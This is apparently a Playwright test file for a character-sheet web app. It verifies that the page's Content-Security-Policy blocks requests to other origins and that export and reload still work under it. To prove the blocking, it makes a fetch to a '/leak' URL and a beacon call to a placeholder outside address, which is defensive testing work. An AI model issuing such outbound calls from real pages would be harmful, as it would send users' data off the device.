import { test, expect, appReady, createCharacter } from "./fixtures";

// "Nothing leaves the device" is a rule the browser enforces: the page's Content-Security-Policy
// allows this origin only. A request to another origin made from the page is blocked before it
// leaves (so the fixture's own request log never sees it), while the app itself, which runs
// under the same policy in every other test (service worker, update flow, export, import), works.

test("the page's policy blocks another origin and lets the app run", async ({ page }) => {
  await page.addInitScript(() => {
    (window as unknown as { violations: string[] }).violations = [];
    document.addEventListener("securitypolicyviolation", (e) =>
      (window as unknown as { violations: string[] }).violations.push(`${e.violatedDirective} ${e.blockedURI}`),
    );
  });
  await page.goto("/");
  await appReady(page);
  const csp = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute("content");
  expect(csp).toContain("default-src 'self'");
  // default-src covers connections, images, fonts, workers and the manifest; styles are this
  // origin's plus the page's own stylesheet, by its hash.
  expect(csp).not.toMatch(/(connect|img|font|worker)-src/);
  expect(csp).toMatch(/style-src 'self' 'sha256-[A-Za-z0-9+/]+=*';/);
  expect(csp).toContain("'wasm-unsafe-eval'");
  expect(csp).not.toContain("unsafe-inline");
  expect(csp).not.toMatch(/'unsafe-eval'/);
  expect(csp).not.toContain("inline-scripts");
  // The app started under it: no violation so far (the wasm, the loader, the theme script).
  expect(await page.evaluate(() => (window as unknown as { violations: string[] }).violations)).toEqual([]);

  // A fetch and a beacon to another origin are refused by the browser before they leave (the
  // fixture checks that no request to another origin was made at all).
  const fetched = await page.evaluate(() => fetch("http://192.0.2.1:9/leak?x=1").then(() => "sent", () => "blocked"));
  expect(fetched).toBe("blocked");
  await page.evaluate(() => navigator.sendBeacon("http://192.0.2.1:9/beacon", "x"));
  await expect
    .poll(() => page.evaluate(() => (window as unknown as { violations: string[] }).violations.join("\n")))
    .toMatch(/connect-src http:\/\/192\.0\.2\.1:9\/leak/);

  // Still works under the policy: a sheet, a roll, an export.
  await createCharacter(page, "Under policy", "Heimr");
  await page.getByRole("link", { name: "Characters" }).tap();
  const [download] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name: "Export all" }).tap()]);
  expect(download.suggestedFilename()).toMatch(/^rollsheet-backup-/);
  // The fatal block's Reload works without an inline handler.
  await page.evaluate(() => {
    (document.getElementById("fatal") as HTMLElement).hidden = false;
  });
  await Promise.all([page.waitForEvent("load"), page.locator("#fatal-reload").tap()]);
  await appReady(page);
});
